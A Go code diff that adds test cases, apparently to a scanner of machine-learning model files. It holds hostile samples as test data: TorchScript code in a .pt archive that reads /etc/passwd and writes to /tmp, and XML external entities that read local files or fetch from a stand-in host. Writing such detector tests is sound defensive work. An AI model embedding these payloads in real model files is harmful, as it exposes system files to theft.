@@ -83,7 +83,7 @@ func tensors(head string, n int) []byte {
 }
 
 func otherFormats() []evasion {
-	return slices.Concat(tensorFiles(), configurations(), startupLines(), programs(), documents(), onnxModels(), savedModels())
+	return slices.Concat(tensorFiles(), configurations(), startupLines(), programs(), documents(), scripts(), onnxModels(), savedModels())
 }
 
 func tensorFiles() []evasion {
@@ -178,6 +178,18 @@ func documents() []evasion {
 		of("external entity", `<!ENTITY e SYSTEM "file:///etc/passwd">`, core.Dangerous),
 		of("external parameter entity", `<!ENTITY % e SYSTEM "http://host.example/d"> %e;`, core.Dangerous),
 		of("entities of entities", `<!ENTITY a "lol"><!ENTITY e "&a;&a;">`, core.Suspicious),
+	}
+}
+
+// scripts are TorchScript code that reaches files.
+func scripts() []evasion {
+	of := func(name, line string) evasion {
+		code := "class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    " + line + "\n    return x\n"
+		return evasion{name: name, file: "m.pt", data: zipOf(member{"m/data.pkl", p2(instance(global("__torch__", "M")))}, member{"m/code/__torch__.py", []byte(code)}, member{"m/version", []byte("3\n")})}
+	}
+	return []evasion{
+		of("TorchScript writes", `torch.save(x, "/tmp/x")`), of("TorchScript reads", `y = torch.from_file("/etc/passwd", False, 10)`),
+		of("TorchScript reads by the set's name", `y = ops.aten.from_file("/etc/passwd", False, 10)`), of("TorchScript writes by an image", `ops.image.write_file("/tmp/x", x)`),
 	}
 }
 
